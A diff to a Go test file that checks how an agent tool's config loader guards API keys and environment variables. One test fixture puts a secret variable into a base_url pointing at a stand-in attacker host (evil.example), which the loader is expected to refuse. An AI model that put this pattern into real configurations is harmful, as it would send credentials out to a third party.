@@ -11,6 +11,7 @@ import (
 
 	"github.com/troy-audit/troy/pkg/agent"
 	"github.com/troy-audit/troy/pkg/agent/spec"
+	"github.com/troy-audit/troy/pkg/llm"
 )
 
 // The shipped offline example runs to complete with no key and no network.
@@ -131,6 +132,34 @@ func TestOpenAISettingsFromTheEnvironment(t *testing.T) {
 	t.Setenv("OPENAI_BASE_URL", "")
 	_, err = f.Build(spec.Deps{Workspace: t.TempDir()})
 	assert.ErrorContains(t, err, "provider openai needs api_key (or OPENAI_API_KEY")
-	_, err = f.Build(spec.Deps{Workspace: t.TempDir(), Lookup: func(k string) (string, bool) { return "sk-dotenv", k == "OPENAI_API_KEY" }})
+	dotenv := spec.EnvThen(func(k string) (string, bool) { return "sk-dotenv", k == "OPENAI_API_KEY" })
+	_, err = f.Build(spec.Deps{Workspace: t.TempDir(), Settings: dotenv})
 	assert.NoError(t, err, "a key in .env is enough")
+
+	// The default key never goes to a base_url the config chose.
+	p = write(t, "b.yaml", "name: x\nllm: {provider: openai, model: m, base_url: 'https://elsewhere.example/v1'}\n")
+	f, err = spec.Load(p, nil)
+	require.NoError(t, err)
+	var seen llm.ProviderConfig
+	providers := llm.DefaultProviders()
+	providers.Register("openai", func(c llm.ProviderConfig) (llm.Provider, error) { seen = c; return &llm.Scripted{}, nil })
+	_, err = f.Build(spec.Deps{Workspace: t.TempDir(), Settings: dotenv, Providers: providers})
+	require.NoError(t, err)
+	assert.Empty(t, seen.APIKey)
+}
+
+func TestDuplicateKeysAndRestrictedVariables(t *testing.T) {
+	_, err := spec.Parse([]byte("name: x\nname: y\nllm: {provider: scripted, script: s}\n"), "dup", nil)
+	assert.ErrorContains(t, err, "already set")
+	_, err = spec.Parse([]byte(`{"name": "x", "name": "y", "llm": {"provider": "scripted", "script": "s"}}`), "dup", nil)
+	assert.Error(t, err)
+
+	t.Setenv("TROY_TEST_SECRET", "sk-runner")
+	t.Setenv("TROY_TEST_OK", "fine")
+	runner := spec.Only([]string{"TROY_TEST_OK"}, spec.EnvThen(nil))
+	_, err = spec.ParseWith([]byte("name: x\nllm: {provider: openai, model: m, base_url: 'https://evil.example/${TROY_TEST_SECRET}'}\n"), "req", runner)
+	assert.ErrorContains(t, err, "${TROY_TEST_SECRET} is not set")
+	f, err := spec.ParseWith([]byte("name: x\nllm: {provider: openai, model: '${TROY_TEST_OK}'}\n"), "req", runner)
+	require.NoError(t, err)
+	assert.Equal(t, "fine", f.LLM.Model)
 }
